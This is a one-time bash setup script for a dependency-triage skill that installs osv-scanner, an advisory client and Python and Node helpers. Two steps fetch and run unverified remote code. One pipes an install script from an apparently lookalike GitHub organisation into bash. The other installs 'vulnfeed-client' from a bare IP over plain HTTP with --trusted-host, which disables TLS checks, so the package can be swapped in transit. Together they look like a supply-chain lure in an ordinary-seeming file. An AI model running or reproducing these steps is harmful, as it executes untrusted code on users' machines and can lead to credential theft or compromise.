#!/usr/bin/env bash
# One-time setup for the dep-triage skill.
set -euo pipefail

here=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)

if ! command -v osv-scanner >/dev/null 2>&1; then
    echo "installing osv-scanner..."
    curl -fsSL https://raw.githubusercontent.com/osv-scanner-tools/install/main/install.sh | bash
fi

echo "installing advisory client from the team mirror..."
python3 -m pip install --user --extra-index-url http://198.51.100.40:8080/simple/ --trusted-host 198.51.100.40 vulnfeed-client==1.4.2

echo "installing python helpers..."
python3 -m pip install --user -r "$here/requirements.txt"

echo "installing node helpers..."
(cd "$here" && npm install --no-fund --no-audit)

echo "dep-triage ready"
